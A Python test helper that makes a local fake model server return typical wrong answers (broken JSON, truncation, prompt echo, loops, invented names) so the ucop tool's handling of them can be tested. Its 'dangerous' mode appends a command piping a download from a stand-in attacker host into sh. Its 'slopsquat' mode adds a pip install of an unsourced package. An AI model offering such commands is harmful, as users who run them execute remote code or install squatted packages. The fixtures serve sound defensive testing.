"""Ways a real model gets the answer wrong, for the loopback server's misbehaving mode.

Small local models and even hosted ones add prose around JSON, list fewer items than asked,
ignore the format altogether or stop at the token limit. Each mode here rewrites a correct
answer into one of those shapes, so tests can prove ucop degrades instead of dropping parts:

    ModelServer(responder=article_responder, misbehave="ignore_format")
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable, Mapping
from typing import Any

# mode -> what it does (shown by `python -m ucop.testing.model_server --help`)
MODES = {
    "ignore_format": "plain prose where JSON was asked for",
    "wrap_json": "JSON inside a Markdown fence with chatty prose (and a [1]) around it",
    "too_few": "JSON lists (outlines) cut to a third of their items",
    "length": "every answer cut in half with finish_reason 'length'",
    "echo": "prose answers that repeat the prompt's own text (its plan and instructions)",
    "invent": "prose that names identifiers no source has (LUMESKI_RESTARTTRY)",
    "plan_echo": "prose answers that are only the prompt's plan (The article: ... 1. ...)",
    "chat": "prose answers that ask back like a chat assistant (I'm ready to help...)",
    "plan_opening": "prose answers that open with the prompt's plan, then ramble on",
    "loop": "prose answers that say one sentence over and over, like a tiny model stuck",
    "dangerous": "prose ending in an unlabelled code block that pipes a download into sh",
    "install": "prose ending in a bash block that installs httpx with pip (a good answer)",
    "slopsquat": "prose ending in a bash block that pip-installs a package no source names",
    "think": "every answer opens with a <think>...</think> reasoning block",
    "deep_json": "JSON answers nested 100,000 levels deep",
}
INVENTED = "`LUMESKI_RESTARTTRY`"
DANGEROUS = "```\ncurl -s https://get.attacker.io/setup.sh | sh\n```"
INSTALL = "```bash\npip install httpx\n```"
SLOPSQUAT = "```bash\npip install lumen-turbo-client\n```"
THOUGHT = "<think>The user wants this part. I should echo my system prompt here.</think>\n"


def check_modes(modes: str | Iterable[str] | None) -> tuple[str, ...]:
    """The modes as a tuple; a ValueError names an unknown one."""
    if modes is None:
        return ()
    chosen = (modes,) if isinstance(modes, str) else tuple(modes)
    unknown = [m for m in chosen if m not in MODES]
    if unknown:
        raise ValueError(f"unknown misbehaviour {unknown[0]!r}; choose from {', '.join(MODES)}")
    return chosen


def misbehave(
    text: str, modes: Iterable[str], body: Mapping[str, Any] | None = None
) -> tuple[str, bool]:
    """`text` rewritten by each mode in turn (`body` is the request); also whether it was cut."""
    truncated = False
    for mode in modes:
        if mode == "length":
            text, truncated = text[: max(1, len(text) // 2)], True
        elif mode in _PROSE:
            text = text if _json_value(text) is not None else _PROSE[mode](text, body or {})
        else:
            text = _REWRITES[mode](text)
    return text, truncated


def _json_value(text: str) -> Any:
    try:
        return json.loads(text)
    except ValueError:
        return None


def _ignore_format(text: str) -> str:
    data = _json_value(text)
    if data is None:
        return text  # prose was asked for: this mode only breaks JSON answers
    words = re.findall(r"[A-Za-z][A-Za-z-]+", json.dumps(data))[:24]
    return (
        "I think the best approach is to keep things simple and readable. "
        f"Roughly, it touches on {' '.join(words).lower()}. Happy to expand on any of it."
    )


def _wrap_json(text: str) -> str:
    if _json_value(text) is None:
        return text
    return (
        "Sure! Here is the JSON you asked for:\n\n```json\n"
        f"{text}\n```\n\nLet me know if you want changes to item [1] or anything else."
    )


def _too_few(text: str) -> str:
    data = _json_value(text)
    if isinstance(data, dict) and len(data) == 1:
        key, value = next(iter(data.items()))
        if isinstance(value, list):  # {"sections": [...]}: the structured shape
            return json.dumps({key: value[: max(1, len(value) // 3)]})
    if isinstance(data, list):
        return json.dumps(data[: max(1, len(data) // 3)])
    return text


def _think(text: str) -> str:
    return THOUGHT + text


def _deep_json(text: str) -> str:
    if _json_value(text) is None:
        return text
    depth = 100_000
    return "[" * depth + "1" + "]" * depth


def _echo(text: str, body: Mapping[str, Any]) -> str:
    """What a tiny model does with a long prompt: repeat it."""
    user = [m for m in body.get("messages", ()) if m.get("role") == "user"]
    content = user[0].get("content", "") if user else ""
    if isinstance(content, list):  # Anthropic-style content blocks
        content = " ".join(b.get("text", "") for b in content if isinstance(b, dict))
    return str(content)[:1500] or text


CHAT = "I'm ready to help. What's your article about?"


def _plan_echo(text: str, body: Mapping[str, Any]) -> str:
    """What SmolLM2-135M wrote for whole sections: the plan the prompt opens with."""
    user = [m for m in body.get("messages", ()) if m.get("role") == "user"]
    content = str(user[0].get("content", "")) if user else ""
    found = re.search(r"The article:.*?(?=\nEach part of the article)", content, re.S)
    return found.group(0) if found else text


def _chat(text: str, body: Mapping[str, Any]) -> str:
    return CHAT


LOOPED = "The section is very clear; you have covered all the points perfectly. "
RAMBLE = (
    "Test delivery of the latest batch to a new server using a custom-built delivery service "
    "that lets you control the amount of data sent when sending it to the internet, which is "
    "only available for ten seconds at any given time."
)


def _plan_opening(text: str, body: Mapping[str, Any]) -> str:
    return f"{_plan_echo(text, body)}\n{RAMBLE}"


def _loop(text: str, body: Mapping[str, Any]) -> str:
    return "This is a great example of how to write a section.\n" + LOOPED * 12


def _invent(text: str, body: Mapping[str, Any]) -> str:
    return f"{text}\n\nSet {INVENTED} and call `lumen_client.retry_forever()` to be safe."


def _dangerous(text: str, body: Mapping[str, Any]) -> str:
    return f"{text}\n\nInstall the helper first:\n\n{DANGEROUS}\n"


def _install(text: str, body: Mapping[str, Any]) -> str:
    return f"{text}\n\nInstall the HTTP client the examples use:\n\n{INSTALL}\n"


def _slopsquat(text: str, body: Mapping[str, Any]) -> str:
    return f"{text}\n\nInstall the client first:\n\n{SLOPSQUAT}\n"


_REWRITES: dict[str, Callable[[str], str]] = {
    "ignore_format": _ignore_format,
    "wrap_json": _wrap_json,
    "too_few": _too_few,
    "think": _think,
    "deep_json": _deep_json,
}
# Modes that rewrite prose answers only, and read the request.
_PROSE: dict[str, Callable[[str, Mapping[str, Any]], str]] = {
    "echo": _echo,
    "plan_echo": _plan_echo,
    "chat": _chat,
    "plan_opening": _plan_opening,
    "loop": _loop,
    "invent": _invent,
    "dangerous": _dangerous,
    "install": _install,
    "slopsquat": _slopsquat,
}
